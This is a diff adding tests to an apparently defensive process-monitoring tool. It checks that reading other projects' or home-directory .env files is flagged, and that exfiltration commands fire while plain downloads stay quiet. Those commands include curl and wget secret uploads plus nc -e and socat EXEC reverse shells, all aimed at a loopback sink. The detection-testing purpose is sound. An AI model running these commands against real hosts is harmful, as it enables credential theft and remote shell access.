@@ -2,6 +2,7 @@
 attacks did, and each narrow exception kept quiet by the real program it is for: another
 process's memory and environment, SSH keys and credential files in a home directory, persistence
 by writes, discovery tools run by their path; the report grouped by importance."""
+import http.server
 import os
 import shutil
 import socket
@@ -220,6 +221,34 @@ def test_ssh_reading_its_own_key_stays_quiet():
         shutil.rmtree(home)
 
 
+def test_env_files_outside_the_checkout_fire_its_own_do_not():
+    """A dotenv file of another project (a sibling checkout on the runner) or of a home directory is
+    a stealer's find; the checkout's own .env files, read by its own tooling, are not. The checkout
+    is where fpshim run runs."""
+    base = tempfile.mkdtemp(prefix="fpshim-env-")
+    try:
+        home = os.path.join(base, "home")
+        project = os.path.join(base, "project")
+        other = os.path.join(base, "other-project")
+        for d in (home, os.path.join(project, "web"), other):
+            os.makedirs(d)
+        for d in (home, project, os.path.join(project, "web"), other):
+            with open(os.path.join(d, ".env"), "w") as f:
+                f.write("DATABASE_URL=postgres://user:secret@db/x\n")
+        own = "cat .env ./web/.env >/dev/null; (cd web && cat .env >/dev/null); test -e ../other-project/.env"
+        quiet = fpshim(["/bin/sh", "-c", own], cwd=project, env=home_env(home))
+        expect_eq(quiet.returncode, 0, quiet.stderr)
+        expect("credential_files" not in fired(quiet), quiet.text)
+
+        r = fpshim(["/bin/sh", "-c", own + "; cat ../other-project/.env \"$HOME/.env\" >/dev/null"], cwd=project,
+                   env=home_env(home))
+        expect_eq(r.returncode, 0, r.stderr)
+        expect_eq(r.paths("credential_files"), sorted([os.path.join(other, ".env"), os.path.join(home, ".env")]))
+        expect_eq({os.path.basename(p["exe"]) for p in r.processes("credential_files")}, {"cat"})
+    finally:
+        shutil.rmtree(base)
+
+
 # --- 3. Persistence by writes -----------------------------------------------------------------
 
 def test_writing_start_up_files_fires_reading_them_does_not():
@@ -292,6 +321,73 @@ def test_ordinary_tools_do_not_fire_discovery_tools():
                                  "command -v tcpdump >/dev/null; true"])
     expect_eq(r.returncode, 0, r.stderr)
     expect("discovery_tools_exec" not in fired(r), r.text)
+
+
+class Sink(http.server.BaseHTTPRequestHandler):
+    """Takes whatever is sent (GET, POST, PUT) and answers 200: the attacker's end, on loopback."""
+    def answer(self):
+        length = int(self.headers.get("Content-Length") or 0)
+        if length:
+            self.rfile.read(length)
+        self.send_response(200)
+        self.send_header("Content-Length", "2")
+        self.end_headers()
+        self.wfile.write(b"ok")
+
+    do_GET = do_POST = do_PUT = answer
+
+    def log_message(self, *args):
+        pass
+
+
+def closed_port():
+    s = socket.socket()
+    s.bind(("127.0.0.1", 0))
+    port = s.getsockname()[1]
+    s.close()
+    return port
+
+
+def test_remote_shells_and_uploads_fire_downloads_do_not():
+    """Exfiltration by executable (issue 15, item 5): a reverse shell through netcat or socat, and
+    a file or standard input sent by curl or wget, judged by the command line of the exec. nc and
+    socat need not be installed: running them by their path is the intent (the exec fails, its
+    arguments are still in the exec record). Downloads and port probes by the same tools stay quiet."""
+    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Sink)
+    t = threading.Thread(target=server.serve_forever)
+    t.start()
+    base = tempfile.mkdtemp(prefix="fpshim-exfil-")
+    try:
+        url = f"http://127.0.0.1:{server.server_address[1]}/"
+        port = closed_port()
+        secret = os.path.join(base, "secret")
+        with open(secret, "w") as f:
+            f.write("token\n")
+        env = dict(os.environ, PATH="/usr/bin:/bin")
+        downloads = (f"curl -fsS -o /dev/null {url}x.tgz; curl -s -X POST -d 'a=1' {url} >/dev/null; "
+                     f"wget -q -O /dev/null {url}y; /usr/bin/nc -z -w 1 127.0.0.1 {port} 2>/dev/null; "
+                     f"/usr/bin/socat -u TCP:127.0.0.1:{port} - 2>/dev/null; true")
+        quiet = fpshim(["/bin/sh", "-c", downloads], cwd=base, env=env, timeout=60)
+        expect_eq(quiet.returncode, 0, quiet.stderr)
+        expect("exfiltration_tools_exec" not in fired(quiet), quiet.text)
+        expect(quiet.report["stats"]["excluded"] >= 3, quiet.report["stats"])  # judged by their arguments
+
+        attacks = (f"base64 secret | curl -s -d @- {url} >/dev/null; curl -s -T secret {url} >/dev/null; "
+                   f"wget -q -O /dev/null --post-file=secret {url}; "
+                   f"/usr/bin/nc -e /bin/sh 127.0.0.1 {port} 2>/dev/null; "
+                   f"/usr/bin/socat TCP:127.0.0.1:{port} EXEC:/bin/sh 2>/dev/null; true")
+        r = fpshim(["/bin/sh", "-c", attacks], cwd=base, env=env, timeout=60)
+        expect_eq(r.returncode, 0, r.stderr)
+        expect_eq(r.paths("exfiltration_tools_exec"), ["/usr/bin/curl", "/usr/bin/nc", "/usr/bin/socat", "/usr/bin/wget"])
+        for tool in ("/usr/bin/nc", "/usr/bin/socat"):
+            expect_eq(r.path("exfiltration_tools_exec", tool)["errors"], [] if os.path.exists(tool) else ["ENOENT"])
+        expect_eq(r.path("exfiltration_tools_exec", "/usr/bin/curl")["count"], 2)
+        expect_eq(r.recipe("exfiltration_tools_exec")["tactic"]["id"], "TA0010")
+    finally:
+        server.shutdown()
+        t.join()
+        server.server_close()
+        shutil.rmtree(base)
 
 
 def test_listing_processes_stays_quiet_reading_a_stranger_environ_does_not():
